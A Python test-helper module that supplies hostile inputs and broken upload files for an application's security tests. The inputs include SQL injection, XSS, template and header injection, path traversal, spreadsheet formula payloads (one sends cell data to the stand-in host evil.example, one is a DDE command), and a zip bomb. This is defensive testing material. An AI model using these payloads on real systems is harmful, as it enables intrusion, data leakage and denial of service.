"""Hostile strings and hostile files for the security checks, and table row counts.

Everything random here uses a fixed seed (and Hypothesis runs derandomised), so a failure
reproduces on the next run.
"""

from __future__ import annotations

import codecs
import io
import random
import zipfile
from collections.abc import Callable

from openpyxl import Workbook
from sqlalchemy import func, select
from sqlalchemy.orm import Session, sessionmaker

from workbench.demo import DemoSize
from workbench.models import Base

SEED = 20261123
# A store with a little of everything: companies with prices and debt, deals, documents.
TINY_DEMO = DemoSize(companies=20, deals=30, documents=3, price_years=1, seed=7)

# Text a hostile or careless user can type into any box: SQL, LIKE wildcards, control and
# invisible characters, markup, template syntax, header injection, paths, spreadsheet formulas.
HOSTILE_STRINGS: list[str] = [
    "'; DROP TABLE companies; --",
    '" OR 1=1 --',
    "' OR '1'='1",
    "%",
    "_",
    "%_",
    "100%_sure",
    "\\",
    "\\%",
    "a\x00b",
    "\x00",
    "A" * 20_000,
    "\u202egnp.exe\u202c",  # right-to-left override
    "zero\u200bwidth",
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "{{7*7}}",
    "${7*7}",
    "line one\r\nSet-Cookie: x=1",
    "../../etc/passwd",
    "..\\..\\windows\\win.ini",
    "/etc/passwd",
    "=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")",
    "=cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "",
    "   ",
    "\ud800",  # a lone surrogate: not valid text in any encoding
    "😀 émoji Société Générale",
    "²",  # a digit to str.isdigit(), not to int()
]


def hostile_ids(values: list[str]) -> list[str]:
    return [repr(v[:24]) + (f"+{len(v) - 24}" if len(v) > 24 else "") for v in values]


def table_counts(session_factory: sessionmaker[Session]) -> dict[str, int]:
    """Rows in every table of the schema: the proof that nothing was written or dropped."""
    with session_factory() as session:
        return {name: session.scalar(select(func.count()).select_from(table)) or 0
                for name, table in Base.metadata.tables.items()}  # fmt: skip


# --- files ----------------------------------------------------------------------------------------


def xlsx_bytes(rows: list[list[object]]) -> bytes:
    wb = Workbook()
    ws = wb.active
    for row in rows:
        ws.append(row)
    buffer = io.BytesIO()
    wb.save(buffer)
    return buffer.getvalue()


def docx_bytes(text: str) -> bytes:
    import docx

    document = docx.Document()
    document.add_paragraph(text)
    buffer = io.BytesIO()
    document.save(buffer)
    return buffer.getvalue()


def pdf_bytes(text: str) -> bytes:
    """A one-page PDF whose text layer holds ``text`` (ASCII, no parentheses)."""
    from pypdf import PdfWriter
    from pypdf.generic import DecodedStreamObject, DictionaryObject, NameObject

    writer = PdfWriter()
    page = writer.add_blank_page(612, 792)
    font = DictionaryObject({NameObject("/Type"): NameObject("/Font"), NameObject("/Subtype"): NameObject("/Type1"),
                             NameObject("/BaseFont"): NameObject("/Helvetica")})  # fmt: skip
    page[NameObject("/Resources")] = DictionaryObject(
        {NameObject("/Font"): DictionaryObject({NameObject("/F1"): writer._add_object(font)})})  # fmt: skip
    content = DecodedStreamObject()
    content.set_data(f"BT /F1 11 Tf 72 720 Td ({text}) Tj ET".encode("ascii"))
    page[NameObject("/Contents")] = writer._add_object(content)
    buffer = io.BytesIO()
    writer.write(buffer)
    return buffer.getvalue()


def rewrite_zip(data: bytes, change: Callable[[str, bytes], bytes | None]) -> bytes:
    """A copy of a zip (XLSX, DOCX) with each member changed, or left out where change gives None."""
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(data)) as src, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as dst:
        for name in src.namelist():
            member = change(name, src.read(name))
            if member is not None:
                dst.writestr(name, member)
    return out.getvalue()


VALID_COMPANIES_XLSX = xlsx_bytes([["Ticker", "Company Name", "Sector"],
                                   *([f"FZ{i}", f"Fuzz Company {i}", "Energy"] for i in range(30))])  # fmt: skip


def corrupt(data: bytes, rng: random.Random, flips: int = 12) -> bytes:
    out = bytearray(data)
    for _ in range(flips):
        out[rng.randrange(len(out))] = rng.randrange(256)
    return bytes(out)


def malformed_tables() -> dict[str, bytes]:
    """Files that no importer may accept, each of a different way to be broken."""
    rng = random.Random(SEED)
    good = VALID_COMPANIES_XLSX
    text = "Ticker,Company Name,Sector\nFZ1,Fuzz One,Energy\n"
    return {
        "random.csv": rng.randbytes(4096),
        "random.xlsx": rng.randbytes(4096),
        "cut_in_half.xlsx": good[: len(good) // 2],
        "flipped_bytes.xlsx": good[:700] + rng.randbytes(300) + good[1000:],
        "no_workbook_part.xlsx": rewrite_zip(good, lambda n, b: None if n == "xl/workbook.xml" else b),
        "no_content_types.xlsx": rewrite_zip(good, lambda n, b: None if n == "[Content_Types].xml" else b),
        "sheet_not_xml.xlsx": rewrite_zip(good, lambda n, b: b"\x00\x01 not xml" if "worksheets/" in n else b),
        "zip_of_text.xlsx": rewrite_zip(docx_bytes("Revenue rose."), lambda n, b: b),  # a Word file renamed
        "csv_named.xlsx": text.encode(),
        "xlsx_named.csv": good,
        "pdf_named.csv": pdf_bytes("Revenue rose 5 percent to 1.2 billion dollars in the quarter"),
        "empty.csv": b"",
        "empty.xlsx": b"",
        "whitespace.csv": b"  \r\n\t\n   \n",
        "whitespace.xlsx": b" \n ",
        "header_only.csv": b"Ticker,Company Name,Sector\n",
        "empty_sheet.xlsx": xlsx_bytes([]),
        "duplicate_header.csv": b"Ticker,ticker,Name\nA,B,C\n",
        "nul_only.csv": b"\x00" * 2048,
        "binary_nul_header.csv": b"\x00\x01\x02,\x03\x04\n\x05,\x06\n",
        "wide_junk.csv": (",".join(f"c{i}" for i in range(5000)) + "\n" + ",".join("x" * 5000) + "\n").encode(),
        "unterminated_quote.csv": b'Ticker,Company Name\n"FZ1,never closed\n' + b"x" * 10_000,
    }


def zip_bomb_xlsx() -> bytes:
    """A valid workbook whose sheet inflates to ~40 MB of whitespace (a few hundred KB on disk)."""
    return rewrite_zip(VALID_COMPANIES_XLSX, lambda n, b: b.replace(b"<sheetData>", b"<sheetData>" + b" " * 40_000_000)
                        if n.endswith("sheet1.xml") else b)  # fmt: skip


def utf16_csv(text: str, big_endian: bool = False) -> bytes:
    return codecs.BOM_UTF16_BE + text.encode("utf-16-be") if big_endian else text.encode("utf-16")
